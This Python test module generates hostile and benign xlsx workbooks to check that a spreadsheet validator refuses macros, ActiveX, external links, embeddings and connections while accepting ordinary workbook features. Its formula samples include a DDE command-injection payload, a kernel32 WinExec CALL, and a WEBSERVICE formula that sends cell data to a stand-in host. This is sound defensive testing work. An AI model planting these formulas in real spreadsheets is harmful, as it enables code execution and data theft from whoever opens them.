"""Workbooks that act, fetch or embed; and what genuine programs put beside a return."""

from collections.abc import Iterator

from hostile import (
    EVIDENCE,
    FIRST_TASK,
    MEASURES,
    OFFICE,
    PROGRESS,
    REJECTED,
    SPREADSHEET,
    TOP_RELATIONS,
    TYPES,
    WORKBOOK,
    Case,
    Parts,
    changed,
    declared,
    genuine,
    packed,
    put_behind,
    put_cell,
    refused,
    related,
)

MACROS, LINKS = "file.macros", "file.external-links"
MICROSOFT = "http://schemas.microsoft.com/office"
PICTURE = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001"
    "a5f645400000000049454e44ae426082"
)
FORMULAS = {
    "dde": "cmd|' /C calc'!A0",
    "webservice": 'WEBSERVICE("http://evil.example/?"&amp;A1)',
    "hyperlink": 'HYPERLINK("http://evil.example/","x")',
    "other-workbook": "'[1]Sheet1'!A1",
    "other-file": "'\\\\evil.example\\share\\[a.xlsx]x'!A1",
    "call": 'CALL("kernel32","WinExec","JCJ","calc",0)',
    "external-dump": 'EXTERNALDATA("x")',
}


def cases(good: bytes, parts: Parts) -> Iterator[Case]:
    yield from _macros(parts)
    yield from _links(parts)
    yield from _formulas(parts)
    yield from _company(parts)


def _macros(parts: Parts) -> Iterator[Case]:
    vba = f"{MICROSOFT}/2006/relationships/vbaProject"
    vba_type = "application/vnd.ms-office.vbaProject"
    yield refused("vba", packed(declared(parts, "xl/vbaProject.bin", b"x")), MACROS)
    yield refused("vba-in-capitals", packed(declared(parts, "xl/VBAPROJECT.BIN", b"x")), MACROS)
    yield refused("vba-by-type", packed(declared(parts, "xl/media/image1.png", b"x", vba_type)), MACROS)
    by_default = changed(parts, TYPES, "<Default", f'<Default Extension="dat" ContentType="{vba_type}"/><Default')
    yield refused("vba-by-ending", packed(by_default | {"xl/a.dat": b"x"}), MACROS)
    yield refused("vba-by-relation", packed(related(parts | {"xl/a.dat": b"x"}, WORKBOOK, vba, "a.dat")), MACROS)
    macro_sheet = declared(parts, "xl/macrosheets/sheet1.xml", b"<x/>", "application/vnd.ms-excel.macrosheet+xml")
    yield refused("macro-sheet", packed(macro_sheet), MACROS)
    hidden = declared(parts, "xl/worksheets/sheet9.xml", parts[EVIDENCE], "application/vnd.ms-excel.intlmacrosheet+xml")
    yield refused("macro-sheet-by-type", packed(hidden), MACROS)
    yield refused("active-x", packed(declared(parts, "xl/activeX/activeX1.xml", b"<x/>")), MACROS)
    yield refused("active-x-by-relation", packed(related(parts, PROGRESS, "control", "../a.xml")), MACROS)
    yield refused("custom-ui", packed(declared(parts, "customUI/customUI14.xml", b"<x/>")), MACROS)
    ribbon = related(parts | {"a.xml": b"<x/>"}, "", f"{MICROSOFT}/2007/relationships/ui/extensibility", "a.xml")
    yield refused("custom-ui-by-relation", packed(_at_top(ribbon)), MACROS)
    yield refused(
        "xml-as-picture",
        packed(declared(parts, "xl/media/a.png", parts[EVIDENCE], f"{SPREADSHEET}.worksheet+xml")),
        "file.unsafe",
    )


def _at_top(parts: Parts) -> Parts:
    """Move the relations of the whole package to their place."""
    extra = parts.pop("_rels/.rels")
    return parts | {TOP_RELATIONS: extra}


def _links(parts: Parts) -> Iterator[Case]:
    part = "xl/externalLinks/externalLink1.xml"
    yield refused("external-link", packed(declared(parts, part, b"<externalLink/>")), LINKS)
    yield refused(
        "external-link-by-type", packed(declared(parts, "xl/a.xml", b"<x/>", f"{SPREADSHEET}.externalLink+xml")), LINKS
    )
    yield refused("external-link-by-relation", packed(related(parts, WORKBOOK, "externalLink", "a.xml")), LINKS)
    for kind in ("image", "externalLinkPath", "oleObject", "worksheet", "attachedTemplate", "pivotCacheDefinition"):
        target = related(parts, PROGRESS, kind, "http://evil.example/x", is_external=True)
        yield refused(f"outside-{kind}", packed(target), LINKS)
    lower = changed(related(parts, PROGRESS, "image", "http://evil.example/x", is_external=True),
                    "xl/worksheets/_rels/sheet3.xml.rels", '"External"', '"external"')  # fmt: skip
    yield refused("outside-in-lower-case", packed(lower), LINKS)
    yield refused("embedding", packed(declared(parts, "xl/embeddings/oleObject1.bin", b"x")), LINKS)
    yield refused(
        "embedding-by-type",
        packed(declared(parts, "xl/a.bin", b"x", "application/vnd.openxmlformats-officedocument.oleObject")),
        LINKS,
    )
    yield refused(
        "embedded-workbook", packed(related(parts | {"xl/b.xlsx": b"x"}, PROGRESS, "package", "../b.xlsx")), LINKS
    )
    yield refused("connections", packed(declared(parts, "xl/connections.xml", b"<connections/>")), LINKS)
    yield refused(
        "connections-by-type", packed(declared(parts, "xl/c.xml", b"<x/>", f"{SPREADSHEET}.connections+xml")), LINKS
    )
    yield refused("query-table", packed(declared(parts, "xl/queryTables/queryTable1.xml", b"<x/>")), LINKS)


def _formulas(parts: Parts) -> Iterator[Case]:
    for name, formula in FORMULAS.items():
        cell = f'<c r="G5"><f>{formula}</f><v>12</v></c>'
        yield genuine(f"formula-{name}", packed(put_cell(parts, "G5", cell)))
    for name in ("dde", "webservice", "hyperlink"):
        uncached = f'<c r="G5"><f>{FORMULAS[name]}</f></c>'
        yield Case(f"formula-{name}-without-value", packed(put_cell(parts, "G5", uncached)), REJECTED, "cell.formula")
    shared = '<c r="G5"><f t="shared" ref="G5:G6" si="0">6+6</f><v>12</v></c>'
    yield genuine("shared-formula", packed(put_cell(parts, "G5", shared)))
    array = '<c r="G5"><f t="array" ref="A1:XFD1048576">6+6</f><v>12</v></c>'
    yield genuine("array-formula-everywhere", packed(put_cell(parts, "G5", array)))
    for at, text in enumerate(
        ("=1+1", "+cmd|' /C calc'!A0", "@SUM(1)", '=HYPERLINK("http://evil.example")', "\u202e=1", "<b>x</b>")
    ):
        escaped = text.replace("<", "&lt;")
        cell = f'<c r="I5" t="inlineStr"><is><t>{escaped}</t></is></c>'
        yield Case(
            f"text-like-a-formula-{at}",
            packed(put_cell(parts, "I5", cell, PROGRESS)),
            "either",
            None,
            {FIRST_TASK: text.lstrip("\u202e")},
        )


def _company(parts: Parts) -> Iterator[Case]:
    """Give what lies in genuine workbooks beside the sheets."""
    core = f"{OFFICE}/customXml"
    item = b'<p:properties xmlns:p="http://schemas.microsoft.com/office/2006/metadata/properties"><d/></p:properties>'
    yield genuine(
        "sharepoint",
        packed(related(declared(parts, "customXml/item1.xml", item), WORKBOOK, core, "../customXml/item1.xml")),
    )
    signed = declared(parts, "_xmlsignatures/sig1.xml", b'<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>',
                      "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml")  # fmt: skip
    yield genuine("signed", packed(signed | {"_xmlsignatures/origin.sigs": b""}))
    printer = declared(
        parts, "xl/printerSettings/printerSettings1.bin", b"\x00" * 900, f"{SPREADSHEET}.printerSettings"
    )
    yield genuine(
        "printer-settings",
        packed(related(printer, PROGRESS, "printerSettings", "../printerSettings/printerSettings1.bin")),
    )
    comment = b'<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"/>'
    yield genuine("threaded-comments", packed(declared(parts, "xl/threadedComments/threadedComment1.xml", comment)))
    yield genuine("persons", packed(declared(parts, "xl/persons/person.xml", b"<personList/>")))
    yield genuine("picture", packed(declared(parts, "xl/media/image1.png", PICTURE)))
    yield genuine("white-bitmap", packed(declared(parts, "xl/media/image1.bmp", b"BM" + b"\xff" * (3 << 20))))
    svg = b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>'
    yield genuine("svg", packed(declared(parts, "xl/media/image1.svg", svg, "image/svg+xml")))
    vml = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><div>a<br>b</div></v:shape></xml>'
    yield genuine("vml-as-excel-writes-it", packed(declared(parts, "xl/drawings/vmlDrawing1.vml", vml)))
    yield genuine("thumbnail", packed(declared(parts, "docProps/thumbnail.wmf", b"\xd7\xcd\xc6\x9a" + bytes(100))))
    yield genuine("label", packed(declared(parts, "docMetadata/LabelInfo.xml", b"<labelList/>")))
    yield genuine(
        "add-in",
        packed(
            declared(
                parts, "xl/webextensions/taskpanes.xml", b"<x/>", "application/vnd.ms-office.webextensiontaskpanes+xml"
            )
        ),
    )
    yield genuine(
        "calc-chain", packed(declared(parts, "xl/calcChain.xml", b"<calcChain/>", f"{SPREADSHEET}.calcChain+xml"))
    )
    pivot = declared(
        parts, "xl/pivotCache/pivotCacheDefinition1.xml", b"<x/>", f"{SPREADSHEET}.pivotCacheDefinition+xml"
    )
    yield genuine("pivot-cache", packed(pivot))
    slicer = declared(parts, "xl/slicers/slicer1.xml", b"<x/>", "application/vnd.ms-excel.slicer+xml")
    yield genuine("slicer", packed(slicer))
    binary = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    unused = changed(parts, TYPES, "<Default", f'<Default Extension="bin" ContentType="{binary}"/><Default')
    yield genuine("types-of-parts-that-are-not-there", packed(unused))
    link = f'<hyperlinks><hyperlink ref="A1" xmlns:r="{OFFICE}" r:id="rX"/></hyperlinks>'
    linked = put_behind(parts, link, EVIDENCE)
    for name, target in (
        ("web", "https://example.org/a.pdf"),
        ("mail", "mailto:a@example.org"),
        ("share", "file:///\\\\may\\chung\\a.pdf"),
    ):
        yield genuine(f"hyperlink-{name}", packed(related(linked, EVIDENCE, "hyperlink", target, is_external=True)))
    absolute = {name: part.replace(b'Target="styles.xml"', b'Target="/xl/styles.xml"') for name, part in parts.items()}
    yield genuine("absolute-targets", packed(absolute))
    relative = {name: part.replace(b'Target="/xl/', b'Target="') for name, part in parts.items()}
    yield genuine("relative-targets", packed(relative))
    note = changed(parts, MEASURES, "<sheetData>", '<sheetProtection sheet="1"/><sheetData>')
    yield genuine("protected-sheet", packed(note))
